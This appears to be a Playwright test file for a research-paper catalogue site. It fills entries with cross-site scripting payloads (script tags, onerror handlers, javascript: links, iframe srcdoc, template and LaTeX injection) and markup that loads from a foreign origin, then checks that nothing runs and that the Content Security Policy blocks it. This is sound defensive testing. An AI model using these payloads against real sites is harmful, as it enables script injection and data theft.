"""An entry may hold anything a stranger types. On every page it is text: nothing runs, nothing becomes an element.

Validation refuses such entries, but a site may be built without it, and the next trick may pass it.
"""

from __future__ import annotations

import json
import re
import tempfile
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import NewPage, Tab, Watch, ready
from tests.browser.site import SiteServer, build, make_root, serving
from tests.conftest import Entries, fields

pytestmark = pytest.mark.browser

# Each piece leaves its field, its element or its language in another way. The field's name is put in front.
PIECES = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</script x <!--<script x",
    "</pre></div><iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "--><!-- <textarea> <style>*{display:none}</style>",
    "<!-- /raw --> <!-- raw --> &lt;!-- /raw --&gt; \n\n# heading\n\n---\n\n    indented\n\n</div>\n\n* item",
    "[click](javascript:window.pwned=1) ![x](http://evil.example/x.png)",
    "x](http://evil.example) <http://evil.example> [y]: http://evil.example",
    "{{ 7*7 }} {% raw %} {# hidden #} ${7*7}",
    "a | b || `code` ```fence``` ~~~ **bold** _under_ # head == mark ==",
    "{: onclick=window.pwned=1 } { #main onclick=window.pwned=1 } :smile: --8<-- &lt;b&gt; &amp; &#60;",
    "@misc{evil, title = {x}} } { \\input{evil} \\write18{evil} % $x$",
    "\u202egnp.exe\u202c end",
)
PAYLOAD = " ".join(PIECES)
KEY = "mallory2024attack"
FILE_NAME = "a2024'><img src=x onerror=window.pwned=1>\"&amp;#x?y=%41{{7}}.yml"
BAD_LINKS = (
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "http://127.0.0.1/\"onmouseover='window.pwned=1'",
    " java\tscript:window.pwned=1",
)


def hostile(field: str) -> str:
    """The payload, told apart by the field it stands in."""
    return f"FIELD-{field} {PAYLOAD}"


def flat(text: str) -> str:
    """Text with one space for any white space, as a browser shows it."""
    return " ".join(text.split())


def hostile_entry(title: str, **changes: Any) -> str:
    """An entry that the model can read, with the payload in every field that takes text.

    It is JSON, which is YAML: the canonical form would tidy the payload's lines."""
    text = {
        "title": hostile(title),
        "name": hostile("name"),
        "authors": [hostile("author"), 'Mallory "); window.pwned=1; ("', "O'Neil </script>"],
        "venue": {"name": hostile("venue"), "year": 2025, "track": hostile("track")},
        "ids": {name: f"{hostile(name)}" for name in ("arxiv", "doi", "acl", "openreview", "s2")},
        "links": {
            "code": [*BAD_LINKS, f"https://evil.example/{PAYLOAD}"],
            "page": BAD_LINKS[0],
            "project": BAD_LINKS[1],
            "video": BAD_LINKS[2],
            "slides": BAD_LINKS[3],
        },
        "kind": hostile("kind"),
        "categories": ["during/token-level", hostile("category")],
        "family": hostile("family"),
        "attributes": {
            **{name: hostile(name) for name in ("supervision", "strategy", "access", "vocabulary", "models")},
            **{name: [hostile(name)] for name in ("goals", "tasks", "benchmarks", "base_models")},
        },
        "survey": {
            **{name: hostile(f"survey-{name}") for name in ("category", "strategy", "models", "loss", "traits")},
            **{name: [hostile(f"survey-{name}")] for name in ("goals", "tasks")},
        },
        "summary": hostile("summary"),
        "notes": hostile("notes"),
        "relations": {"builds_on": [hostile("builds_on")], "compares_with": ["victim2024plain"]},
        "checked": {"date": "2026-11-22", "against": [*BAD_LINKS, hostile("against")]},
    }
    return json.dumps(fields(**{**text, **changes}))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
    """A built site of three hostile entries and a plain one that they are related to."""
    folder = tmp_path_factory.mktemp("hostile")
    entries: Entries = {
        KEY: hostile_entry("title"),
        "mallory2024elsewhere": hostile_entry("title-two", categories=[hostile("primary")], family=None),
        "mallory2024unchecked": hostile_entry("title-three", summary=None, checked=None),
        "victim2024plain": fields(categories=["during/token-level"]),
        f"2024/{FILE_NAME}": fields(title="An entry with a hostile file name"),
    }
    with serving(build(make_root(folder / "atlas", entries), folder / "site")) as server:
        yield server


@pytest.fixture
def hostile_page(tab: Tab, hostile_site: SiteServer) -> Page:
    """A page of the hostile site."""
    return tab(url=hostile_site.url)


def expect_harmless(page: Page) -> None:
    """Nothing of the payload ran or became an element, an attribute or an address."""
    assert page.evaluate("typeof window.pwned") == "undefined"
    found: list[str] = page.evaluate(
        """() => [...document.querySelectorAll("*")].filter(node => {
            if ([...node.attributes].some(({ name }) => name.startsWith("on"))) return true;
            for (const name of ["href", "src", "action", "formaction", "srcdoc", "xlink:href"]) {
                const value = (node.getAttribute(name) ?? "").replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
                if (/^(javascript|vbscript|data):/.test(value) || value.startsWith("http://evil")) return true;
            }
            const data = node.type === "application/ld+json";
            if (node.tagName === "SCRIPT") return !data && node.textContent.includes("pwned");
            if (node.tagName === "STYLE") return node.textContent.includes("*{display:none}");
            return node.matches("iframe, textarea, img[src='x']") && !node.closest("[data-md-component=iframe]");
        }).map(node => node.outerHTML.slice(0, 200))"""
    )
    assert not found, found


def expect_text(page: Page, *wanted: str) -> None:
    """The page shows each text as it was written, but for white space."""
    shown = flat(page.locator("main").text_content() or "")
    missing = [text for text in wanted if flat(text) not in shown]
    assert not missing, [text[:40] for text in missing]


def test_paper_page(hostile_page: Page) -> None:
    page = hostile_page
    page.goto(f"/papers/{KEY}/")
    expect_harmless(page)
    names = "title name author venue track doi kind category family supervision strategy access vocabulary models"
    names += " goals tasks benchmarks base_models survey-strategy survey-models survey-loss survey-traits"
    names += " survey-goals summary notes against"
    expect_text(page, *map(hostile, names.split()), *BAD_LINKS)
    assert page.title() == f"{flat(hostile('title'))} - LLM Ensemble Atlas"
    assert flat(page.locator("h1").inner_text()).startswith(flat(hostile("title")))
    description = page.locator('meta[name="description"]').get_attribute("content")
    assert description == flat(hostile("summary"))
    for name, content in {"og:title": hostile("title"), "og:description": hostile("summary")}.items():
        assert page.locator(f'meta[property="{name}"]').get_attribute("content") == flat(content)
    assert page.locator('meta[name="citation_author"]').first.get_attribute("content") == hostile("author")
    linked = json.loads(page.locator('script[type="application/ld+json"]').text_content() or "")
    assert linked["name"] == hostile("title")
    for term in page.locator(".atlas-term").all()[:6]:
        term.hover(force=True)
    expect_harmless(page)


@pytest.mark.parametrize("key", ["mallory2024elsewhere", "mallory2024unchecked", "victim2024plain"])
def test_other_paper_pages(hostile_page: Page, key: str) -> None:
    hostile_page.goto(f"/papers/{key}/")
    expect_harmless(hostile_page)
    title = {"mallory2024elsewhere": "title-two", "mallory2024unchecked": "title-three", "victim2024plain": "title"}
    expect_text(hostile_page, hostile(title[key]))


def test_copying_a_hostile_bibtex_entry_copies_its_text(new_page: NewPage, hostile_site: SiteServer) -> None:
    page = new_page(url=hostile_site.url, permissions=["clipboard-read", "clipboard-write"])
    page.goto(f"/papers/{KEY}/")
    page.get_by_role("button", name="Copy BibTeX").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    with urllib.request.urlopen(f"{hostile_site.url}/assets/data/bibtex.json") as answer:  # noqa: S310  our own server
        entry = json.load(answer)[KEY]
    assert page.evaluate("navigator.clipboard.readText()").rstrip("\n") == entry.rstrip("\n")


def test_explorer(hostile_page: Page) -> None:
    page = hostile_page
    page.goto("/papers/")
    ready(page)
    expect_harmless(page)
    page.get_by_label("Search the papers").press_sequentially("FIELD-title-three", delay=0)
    expect(page.locator(".atlas-x-card mark").first).to_be_visible()
    expect_text(page, hostile("title-three"), hostile("name"), hostile("venue"))
    page.get_by_label("Search the papers").fill(flat(PAYLOAD))
    expect(page).to_have_url(re.compile("text=.*pwned"))
    expect_harmless(page)
    page.goto(page.url)  # the address itself is hostile now
    ready(page)
    expect(page.get_by_label("Search the papers")).to_have_value(flat(PAYLOAD))
    expect_harmless(page)


def test_explorer_filters_with_hostile_values(hostile_page: Page) -> None:
    page = hostile_page
    page.goto("/papers/")
    ready(page)
    page.locator("details.atlas-x-group").evaluate_all("groups => groups.forEach(group => { group.open = true; })")
    boxes = page.locator("#atlas-x-filters .atlas-x-row:visible", has_text="FIELD-")
    assert boxes.count() >= 5
    for box in boxes.all():
        box.click()
    assert page.locator(".atlas-x-chip", has_text="FIELD-").count() == boxes.count()
    expect_harmless(page)


def test_list_without_javascript(new_page: NewPage, hostile_site: SiteServer) -> None:
    page = new_page(url=hostile_site.url, java_script_enabled=False)
    page.goto("/papers/")
    expect(page.locator("#atlas-paper-list a")).to_have_count(4)
    expect_harmless(page)
    expect_text(page, hostile("title"), hostile("title-two"), hostile("title-three"))


def test_category_page(hostile_page: Page) -> None:
    hostile_page.goto("/taxonomy/during/token-level/")
    expect_harmless(hostile_page)
    expect_text(hostile_page, hostile("title"), hostile("title-three"), hostile("venue"))


@pytest.mark.parametrize("address", ["/", "/about/", "/taxonomy/", "/data/", "/choose/"])
def test_pages_about_all_papers(hostile_page: Page, address: str) -> None:
    hostile_page.goto(address)
    expect_harmless(hostile_page)
    if address in ("/", "/about/"):
        expect_text(hostile_page, hostile("title-three"))


def test_trends(hostile_page: Page) -> None:
    """Names from entries stand in tables and in charts, and in what a chart tells under the pointer."""
    page = hostile_page
    page.goto("/trends/")
    expect_text(page, *map(hostile, ("venue", "benchmarks", "base_models", "title-three")))
    for chart in page.locator(".atlas-chart").all():
        chart.scroll_into_view_if_needed()
        expect(chart).to_have_attribute("data-state", "drawn")
    page.locator('.atlas-chart[data-src$="trends-benchmarks.json"] .mark-rect path').first.hover()
    expect(page.locator("#vg-tooltip-element")).to_contain_text("FIELD-benchmarks <script>")
    expect_harmless(page)


def test_header_search(hostile_page: Page) -> None:
    page = hostile_page
    page.goto("/about/")
    page.get_by_role("textbox", name="Search").click()
    page.get_by_role("textbox", name="Search").press_sequentially("mallory pwned")
    expect(page.locator(".md-search-result__link").first).to_be_visible()
    expect(page.locator(".md-search-result__link").first).to_contain_text("<script>window.pwned=1</script>")
    expect_harmless(page)
    page.get_by_role("textbox", name="Search").fill("<img src=x onerror=window.pwned=1>")
    expect(page.locator(".md-search-result__meta")).not_to_have_text(re.compile("Initializing"))
    expect_harmless(page)


def test_downloads_keep_the_text(hostile_site: SiteServer) -> None:
    downloads = hostile_site.folder / "downloads"
    papers = {paper["key"]: paper for paper in json.loads((downloads / "papers.json").read_text(encoding="utf-8"))}
    assert papers.keys() == {KEY, "mallory2024elsewhere", "mallory2024unchecked", "victim2024plain"}
    assert papers[KEY]["title"] == hostile("title")
    assert papers[KEY]["summary"] == hostile("summary")
    assert not [path for path in downloads.iterdir() if path.suffix == ".html"]  # nothing that a browser would run


# --- the second fence: markup that reached a page all the same ------------------------------------------------------

INJECTED = """
<script>window.pwned = 1</script>
<script src="{foreign}/x.js"></script>
<img src="x" onerror="window.pwned = 2">
<img src="{foreign}/x.png">
<iframe src="{foreign}/"></iframe>
<iframe srcdoc="<script>parent.pwned = 3</script>"></iframe>
<object data="{foreign}/x.svg"></object>
<link rel="stylesheet" href="{foreign}/x.css">
<style>h1 {{ background: url({foreign}/x.gif) }}</style>
<a id="lure" href="javascript:window.pwned=4">lure</a>
<svg><script>window.pwned = 5</script></svg>
<base href="{foreign}/">
"""
LEAK = "address => fetch(address).then(() => 'sent', error => error.name)"


@contextmanager
def injected(site: SiteServer, file: str, foreign: str, policy: str | None = None) -> Iterator[str]:
    """The address of a copy of a page, with a stranger's markup in it; `policy` stands in for the page's own."""
    page = site.folder / file
    html = page.read_text(encoding="utf-8").replace("</h1>", f"</h1>{INJECTED.format(foreign=foreign)}", 1)
    if policy is not None:
        html = re.sub('(http-equiv="Content-Security-Policy" content=)"[^"]*"', rf'\1"{policy}"', html)
    with tempfile.NamedTemporaryFile("w", dir=page.parent, suffix=".html", encoding="utf-8") as copy:
        copy.write(html)
        copy.flush()
        yield f"{site.url}/{Path(copy.name).relative_to(site.folder)}"


@pytest.fixture
def foreign(tmp_path: Path) -> Iterator[SiteServer]:
    """Another origin, which remembers what it was asked for."""
    (tmp_path / "404.html").write_text("no such page")
    with serving(tmp_path) as server:
        yield server


@pytest.mark.parametrize(
    "file", ["index.html", f"papers/{KEY}/index.html", "papers/index.html", "trends/index.html", "404.html"]
)
def test_injected_markup_runs_nothing_and_fetches_nothing(
    new_page: NewPage, hostile_site: SiteServer, foreign: SiteServer, watch: Watch, file: str
) -> None:
    page = new_page(url=hostile_site.url)
    watch.expected += ["Content Security Policy", "404"]
    with injected(hostile_site, file, foreign.url) as address:
        page.goto(address)
        page.locator("#lure").dispatch_event("click")
        assert page.evaluate(LEAK, f"{foreign.url}/leak") == "TypeError"
        assert page.evaluate("typeof window.pwned") == "undefined"
        assert page.evaluate("document.baseURI") == address
    assert foreign.sent == []
    refused = " ".join(watch.console_errors)
    for rule in ("script-src", "img-src", "connect-src", "default-src", "style-src", "base-uri"):
        assert rule in refused, rule


def test_without_the_policy_the_same_markup_does_harm(
    new_page: NewPage, hostile_site: SiteServer, foreign: SiteServer, watch: Watch
) -> None:
    """Else the test above would show nothing."""
    page = new_page(url=hostile_site.url)
    watch.expected.append("")  # whatever the markup does to the page
    with injected(hostile_site, "about/index.html", foreign.url, policy="") as address:
        page.goto(address)
        assert page.evaluate("window.pwned") in range(1, 6)
    assert {path for path, _ in foreign.sent} >= {"/x.js", "/x.png", "/x.css", "/"}


def test_every_page_has_the_policy(site: SiteServer, hostile_site: SiteServer) -> None:
    """Also those that no test opens. What a page itself would do against it is an error on its console, which fails
    each test that opens the page."""
    pages = [path for folder in (site.folder, hostile_site.folder) for path in folder.rglob("*.html")]
    assert len(pages) > 400
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert text.count('http-equiv="Content-Security-Policy"') == 1, path
        head = text.partition('http-equiv="Content-Security-Policy"')[0]
        assert not re.search("<(script|link|style|img)", head), path
        policy = unescape(text.partition('http-equiv="Content-Security-Policy" content="')[2].partition('"')[0])
        # only the page play and its frame run WebAssembly; none makes code of text, or has a script within it
        play = site.folder / "play"
        plays = path.parent in {play, play / "embed"}
        assert ("script-src 'self' 'wasm-unsafe-eval';" if plays else "script-src 'self';") in policy, path
        assert re.findall(r"'[\w-]*unsafe-eval'", policy) == ["'wasm-unsafe-eval'"] * plays, path


def test_a_file_whose_name_is_no_key_is_left_out(hostile_page: Page, hostile_site: SiteServer) -> None:
    hostile_page.goto("/papers/")
    ready(hostile_page)
    expect(hostile_page.locator(".atlas-x-status")).to_have_text("All 4 papers")
    assert "hostile file name" not in hostile_page.content()
    assert not [path for path in hostile_site.folder.rglob("*") if "pwned" in path.name]
